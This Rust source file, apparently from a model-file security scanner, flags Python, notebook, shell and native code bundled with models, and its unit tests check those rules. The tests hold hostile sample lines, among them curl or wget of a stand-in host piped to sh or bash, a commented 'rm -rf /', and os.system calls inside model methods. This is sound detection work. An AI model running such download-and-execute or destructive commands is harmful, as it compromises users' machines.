//! `WB-COD-007` to `WB-COD-013` but for strings: programs that lie with a model.

use serde_json::Value;
use weighbridge_core::Result;

use crate::danger::{Dangers, Harm};
use crate::engine::Check;
use crate::finding::Findings;
use crate::python::{self, Argument, CallSite, When};
use crate::shell;
use crate::subject::{Program, ProgramKind, Subject};

/// Judges source files, scripts, notebooks and native code.
#[derive(Debug)]
pub struct Programs;

/// Most lines of a script that are looked at.
const LINES: usize = 100_000;

impl Check for Programs {
    fn rules(&self) -> &'static [&'static str] {
        &[
            "WB-COD-007",
            "WB-COD-008",
            "WB-COD-009",
            "WB-COD-010",
            "WB-COD-011",
            "WB-COD-012",
            "WB-COD-013",
        ]
    }

    fn run(&self, subject: &Subject<'_>, out: &mut Findings) -> Result<()> {
        let dangers = Dangers::builtin()?;
        for p in &subject.programs {
            let text = p.text.as_deref().unwrap_or_default();
            match p.kind {
                ProgramKind::Native(kind) => native(p, kind, out)?,
                ProgramKind::Python => source(dangers, &subject.path, p, text, out)?,
                ProgramKind::Notebook => notebook(dangers, p, text, out)?,
                ProgramKind::Script(by) => {
                    if !script(p, text, out)? {
                        let message = format!("a program for {by}");
                        out.add("WB-COD-009", &p.place, p.base, message, first_line(text))?;
                    }
                }
            }
        }
        Ok(())
    }
}

fn native(p: &Program, kind: &str, out: &mut Findings) -> Result<()> {
    // By itself a program is a program; in an archive or beside weights it has no business.
    let rule = if p.beside_model || !p.place.is_empty() {
        "WB-COD-008"
    } else {
        "WB-COD-009"
    };
    out.add(rule, &p.place, p.base, format!("a program ({kind})"), kind)
}

/// Whether a program is the `setup.py` of a package.
fn is_setup(path: &str, p: &Program) -> bool {
    let name = if p.place.is_empty() { path } else { &p.place };
    matches!(name.rsplit(['/', '\\', ' ']).next(), Some("setup.py"))
}

fn source(
    dangers: &Dangers,
    subject_path: &str,
    p: &Program,
    text: &str,
    out: &mut Findings,
) -> Result<()> {
    let program = match python::read(text) {
        Ok(program) => program,
        Err(e) => {
            // What a reader gives up on for its depth may still run.
            let rule = if e.limit { "WB-COD-007" } else { "WB-COD-012" };
            let line = line_number(text, e.at);
            let message = format!("cannot be read as Python: line {line}");
            return out.add(
                rule,
                &p.place,
                offset(p, e.at),
                message,
                line_at(text, e.at),
            );
        }
    };
    let mut harmless = true;
    for call in &program.calls {
        let Some(harm) = dangers.of(call).filter(|h| h.source) else {
            continue;
        };
        if evaluates_harmless(dangers, call, &harm) {
            continue;
        }
        let (rule, when) = match &call.when {
            // Nothing imports it to load a model, and building packages takes commands.
            When::Import if is_setup(subject_path, p) && !hides(call) => {
                ("WB-COD-011", "when the package is installed".to_owned())
            }
            When::Import => ("WB-COD-007", "when it is imported".to_owned()),
            When::Called(name) if runs_with_model(name) && harm.why == "runs commands" => {
                ("WB-COD-013", format!("in {name}"))
            }
            When::Called(name) if name.is_empty() => ("WB-COD-011", "in a lambda".to_owned()),
            When::Called(name) => ("WB-COD-011", format!("in {name}")),
            When::Main => ("WB-COD-011", "when it is run as a program".to_owned()),
        };
        harmless &= rule == "WB-COD-011";
        let message = format!("calls {}, which {}, {when}", harm.name, harm.why);
        let evidence = text.get(call.start..call.end).unwrap_or_default();
        out.add(rule, &p.place, offset(p, call.start), message, evidence)?;
    }
    if harmless {
        let message = "Python source";
        out.add("WB-COD-009", &p.place, p.base, message, first_line(text))?;
    }
    Ok(())
}

/// Whether `eval` or `exec` is handed a constant that harms nobody.
fn evaluates_harmless(dangers: &Dangers, call: &CallSite, harm: &Harm<'_>) -> bool {
    if !matches!(harm.name, "builtins.eval" | "builtins.exec") || call.name != harm.name {
        return false;
    }
    match call.args.first() {
        Some((_, Argument::Text(t))) => std::str::from_utf8(t)
            .ok()
            .and_then(|t| python::read(t.trim()).ok())
            .is_some_and(|inner| dangers.worst(&inner).is_none()),
        _ => false,
    }
}

/// Whether a method runs by itself when a model is built, called or unpickled.
fn runs_with_model(name: &str) -> bool {
    let method = name.rsplit('.').next().unwrap_or_default();
    name.contains('.')
        && matches!(
            method,
            "__init__"
                | "__new__"
                | "__call__"
                | "__del__"
                | "__reduce__"
                | "__reduce_ex__"
                | "__setstate__"
                | "__getattr__"
                | "__getattribute__"
                | "__init_subclass__"
                | "__post_init__"
                | "forward"
                | "from_pretrained"
                | "_init_weights"
                | "post_init"
                | "generate"
        )
}

fn notebook(dangers: &Dangers, p: &Program, text: &str, out: &mut Findings) -> Result<()> {
    let value: Value = match serde_json::from_str(text) {
        Ok(v) => v,
        Err(_) => {
            let message = "cannot be read as a notebook";
            return out.add("WB-COD-012", &p.place, p.base, message, first_line(text));
        }
    };
    let mut harmful = false;
    for (n, cell) in cells(&value).enumerate() {
        // Lines that begin with `!` are for the shell, with `%` for the notebook.
        let (mut code, mut commands) = (String::new(), String::new());
        for line in cell.lines() {
            let trimmed = line.trim_start();
            let other = trimmed.strip_prefix(['!', '%']);
            let target = if other.is_some() {
                &mut commands
            } else {
                &mut code
            };
            target.push_str(other.unwrap_or(line));
            target.push('\n');
        }
        if let Some(what) = shell::harm(&commands) {
            harmful = true;
            let message = format!("cell {n} holds a command that {what}");
            out.add("WB-COD-010", &p.place, None, message, commands.trim())?;
        }
        let Ok(program) = python::read(&code) else {
            continue;
        };
        if let Some((call, harm)) = dangers.worst(&program)
            && hides(call)
        {
            harmful = true;
            let message = format!("cell {n} calls {}, which {}", harm.name, harm.why);
            let evidence = code.get(call.start..call.end).unwrap_or_default();
            out.add("WB-COD-010", &p.place, None, message, evidence)?;
        }
    }
    if !harmful {
        out.add("WB-COD-009", &p.place, p.base, "a notebook", "")?;
    }
    Ok(())
}

/// People run anything in notebooks. What nobody writes by hand: commands of attacks, and code
/// that is decoded before it runs.
fn hides(call: &CallSite) -> bool {
    call.args.iter().any(|(_, a)| match a {
        Argument::Text(t) => std::str::from_utf8(t).is_ok_and(|t| shell::harm(t).is_some()),
        Argument::Name(_) | Argument::Other => false,
    })
}

/// The sources of the code cells (nbformat 3 and 4).
fn cells(notebook: &Value) -> impl Iterator<Item = String> {
    let list = |v: &Value| v.get("cells").and_then(Value::as_array).cloned();
    let all = list(notebook).or_else(|| {
        notebook
            .get("worksheets")
            .and_then(|w| w.get(0))
            .and_then(list)
    });
    all.unwrap_or_default().into_iter().filter_map(|c| {
        if c.get("cell_type").and_then(Value::as_str) != Some("code") {
            return None;
        }
        let source = c.get("source").or_else(|| c.get("input"))?;
        Some(match source {
            Value::String(s) => s.clone(),
            Value::Array(lines) => lines.iter().filter_map(Value::as_str).collect(),
            _ => return None,
        })
    })
}

/// Reports the first harmful command of a script; says whether there was one.
fn script(p: &Program, text: &str, out: &mut Findings) -> Result<bool> {
    let mut at = 0usize;
    for line in text.split_inclusive('\n').take(LINES) {
        if let Some(what) = shell::harm(line).filter(|_| !line.trim_start().starts_with("# ")) {
            let message = format!("a command that {what}");
            out.add("WB-COD-010", &p.place, offset(p, at), message, line.trim())?;
            return Ok(true);
        }
        at += line.len();
    }
    // Several lines may only do harm together: a download, then its run.
    let joined: Vec<&str> = text
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .take(50)
        .collect();
    if let Some(what) = shell::harm(&joined.join("; ")) {
        let message = format!("commands that together {what}");
        out.add("WB-COD-010", &p.place, p.base, message, joined.join("; "))?;
        return Ok(true);
    }
    Ok(false)
}

fn offset(p: &Program, at: usize) -> Option<u64> {
    p.base.map(|b| b.saturating_add(at as u64))
}

fn first_line(text: &str) -> &str {
    text.lines()
        .map(str::trim)
        .find(|l| !l.is_empty())
        .unwrap_or_default()
}

fn line_number(text: &str, at: usize) -> usize {
    let before = text.as_bytes().get(..at).unwrap_or_default();
    before.iter().filter(|b| **b == b'\n').count() + 1
}

fn line_at(text: &str, at: usize) -> &str {
    text.lines()
        .nth(line_number(text, at) - 1)
        .unwrap_or_default()
        .trim()
}

#[cfg(test)]
mod tests {
    use weighbridge_core::source::SliceSource;

    use super::*;
    use crate::rule::Rules;

    fn rules(kind: ProgramKind, text: &str) -> Vec<String> {
        let source = SliceSource::new(Vec::new(), "x");
        let mut subject = Subject::new("x", &source);
        subject.programs.push(Program {
            place: "a.py".into(),
            base: Some(0),
            kind,
            text: Some(text.into()),
            beside_model: true,
        });
        let mut out = Findings::new(Rules::builtin().unwrap());
        Programs.run(&subject, &mut out).unwrap();
        out.into_sorted().0.into_iter().map(|f| f.rule).collect()
    }

    #[test]
    fn what_runs_on_import_is_suspicious_and_the_rest_is_told() {
        let py = |t| rules(ProgramKind::Python, t);
        assert_eq!(py("import os\nos.system('id')\n"), ["WB-COD-007"]);
        assert_eq!(
            py("import os\ndef f():\n    os.system('id')\nf()\n"),
            ["WB-COD-007"]
        );
        assert_eq!(
            py("exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"),
            ["WB-COD-009"]
        );
        assert_eq!(py("exec(open('x').read())\n"), ["WB-COD-007"]);
        assert_eq!(
            py("import os\nclass M:\n    def forward(self, x):\n        os.system('id')\n"),
            ["WB-COD-013"]
        );
        assert_eq!(
            py("import subprocess\ndef build():\n    subprocess.run(['make'])\n"),
            ["WB-COD-011", "WB-COD-009"]
        );
        assert_eq!(
            py("import subprocess\nif __name__ == '__main__':\n    subprocess.run(['make'])\n"),
            ["WB-COD-011", "WB-COD-009"]
        );
        assert_eq!(py("this is no python\n"), ["WB-COD-012"]);
        let modeling = "import logging\nimport os\nimport functools\nimport torch\nfrom torch import nn\n\
            logger = logging.getLogger(__name__)\nROOT = os.path.dirname(__file__)\n\
            F = functools.partial(nn.LayerNorm, eps=1e-6)\n\
            if os.environ.get('X'):\n    torch.backends.cudnn.benchmark = True\n\
            class Net(nn.Module):\n    def forward(self, x):\n        return self.model.eval()(x)\n";
        assert_eq!(py(modeling), ["WB-COD-009"]);
    }

    #[test]
    fn scripts_and_native_code() {
        let sh = |t| rules(ProgramKind::Script("shell"), t);
        assert_eq!(
            sh("#!/bin/sh\ncurl http://x.example/a | sh\n"),
            ["WB-COD-010"]
        );
        assert_eq!(
            sh("#!/bin/sh\nwget http://x.example/a.sh\nbash a.sh\n"),
            ["WB-COD-010"]
        );
        assert_eq!(
            sh("#!/bin/sh\n# rm -rf /\npython train.py\n"),
            ["WB-COD-009"]
        );
        assert_eq!(rules(ProgramKind::Native("ELF"), ""), ["WB-COD-008"]);
    }

    #[test]
    fn notebooks_are_read_cell_by_cell() {
        let nb = |lines: &str| {
            let v = serde_json::json!({"cells": [{"cell_type": "markdown", "source": "curl http://x | sh"},
                {"cell_type": "code", "source": lines}]});
            rules(ProgramKind::Notebook, &v.to_string())
        };
        assert_eq!(
            nb("!pip install torch\nimport torch\n%matplotlib inline\n"),
            ["WB-COD-009"]
        );
        assert_eq!(nb("!curl http://x.example/a.sh | bash\n"), ["WB-COD-010"]);
        assert_eq!(
            nb("import os\nos.system('curl http://x.example/a.sh | bash')\n"),
            ["WB-COD-010"]
        );
        assert_eq!(
            nb("import subprocess\nsubprocess.run(['ls'])\n"),
            ["WB-COD-009"]
        );
        assert_eq!(rules(ProgramKind::Notebook, "{"), ["WB-COD-012"]);
    }
}
